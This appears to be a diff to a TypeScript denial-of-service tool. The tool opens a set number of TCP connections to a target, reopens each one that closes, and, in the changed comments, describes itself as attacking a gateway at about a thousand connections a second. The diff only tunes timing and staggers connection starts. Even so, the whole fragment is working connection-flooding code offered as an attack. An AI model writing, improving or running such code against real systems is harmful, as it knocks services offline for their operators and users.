@@ -19,16 +19,17 @@ export async function open({ host, port }: Target): Promise<Socket> {
 }
 
 /** The time between a connection that was closed and the next: the attack is on the gateway, not on the kernel. */
-const AGAIN_MS = 500;
+const AGAIN_MS = 1_000;
 
-/** Opens `count` connections and calls `use` with each; opens another one for each that is closed. */
+/** Opens `count` connections, a thousand a second, and calls `use` with each; replaces each that is closed. */
 export async function keepOpen(
   target: Target,
   signal: AbortSignal,
   count: number,
   use: (socket: Socket) => void,
 ): Promise<void> {
-  async function one(): Promise<void> {
+  async function one(_: unknown, index: number): Promise<void> {
+    await pause(signal, index);
     while (!signal.aborted) {
       const socket = await open(target);
       const end = (): void => void socket.destroy();
@@ -40,7 +41,7 @@ export async function keepOpen(
       await pause(signal, AGAIN_MS);
     }
   }
-  await Promise.all(Array.from({ length: count }, one));
+  await Promise.all(Array.from({ length: count }).map(one));
 }
 
 /** Resolves after `ms` milliseconds, or when the attack ends. */
